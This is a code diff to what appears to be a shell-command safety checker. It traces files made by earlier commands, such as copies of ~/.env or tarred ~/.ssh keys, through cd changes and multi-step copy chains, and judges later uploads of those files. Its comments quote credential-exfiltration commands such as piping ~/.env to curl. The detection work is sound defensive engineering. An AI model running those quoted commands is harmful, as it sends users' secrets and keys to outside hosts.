@@ -262,17 +262,40 @@ class _Walk:
         """A file an earlier call made (`cp ~/.env /tmp/n`, `env > /tmp/e`, `tar czf /tmp/k.tgz ~/.ssh`)
         and this line sends away is judged as the pipe the two calls amount to: `cat ~/.env | curl -T -
         URL`, in the directory the earlier call ran in. (On one line, adr/shell/parse.py does the same.)"""
+        here = cwd
         for c in parsed.commands[:64]:
             if not c.argv:
                 continue
+            if c.program in ("cd", "pushd") and not c.via:
+                here = R.cd_target(c.args, here, self.home)  # `cd /tmp && curl -T f …`: f is /tmp/f
+                continue
             for f, sender in files_sent(c.program, c.args, c.redirects, c.stdin_text):
-                path = R.resolve(f, cwd, self.home)
-                w = self.recall(path) if path else None
-                if w is None or not w.producer:  # (any session's: the file stays on disk between them)
-                    continue
-                self.judge(w.producer + " | " + sender, w.producer_cwd or cwd, depth + 1,
-                           _note(note, f"sends {f}, {w.origin(self.session)} by `{w.producer[:120]}`"),
-                           follow=False)
+                for d in dict.fromkeys((here, cwd)):
+                    path = R.resolve(f, d, self.home)
+                    if path:
+                        self.sent_from(path, f, sender, cwd, depth, note, 0)
+
+    def sent_from(self, path: str, shown: str, sender: str, cwd: str, depth: int, note: str, hops: int) -> None:
+        """`PRODUCER | SENDER` for a remembered file, and again for each remembered file its producer
+        read (`cp .env a` then `cat a > b` then `zip c.zip b`: c.zip is judged as .env's too)."""
+        w = self.recall(path)
+        if w is None or not w.producer:  # (any session's: the file stays on disk between them)
+            return
+        where = w.producer_cwd or cwd
+        self.judge(w.producer + " | " + sender, where, depth + 1,
+                   _note(note, f"sends {shown}, {w.origin(self.session)} by `{w.producer[:120]}`"), follow=False)
+        if hops >= 3:
+            return
+        try:
+            words = shlex.split(w.producer, comments=False)
+        except ValueError:
+            return
+        for a in words[:32]:
+            if a.startswith("-") or a in ("cat", "tar", "c", "|", "<", "{", "}", ";"):
+                continue
+            p = R.resolve(a, where, self.home)
+            if p and p != path:
+                self.sent_from(p, f"{shown} (made from {a})", sender, cwd, depth, note, hops + 1)
 
     def out_of_time(self, command: str, note: str) -> bool:
         """The walk's own CPU-time bound, or the decision's budget, is spent: the rest asks."""
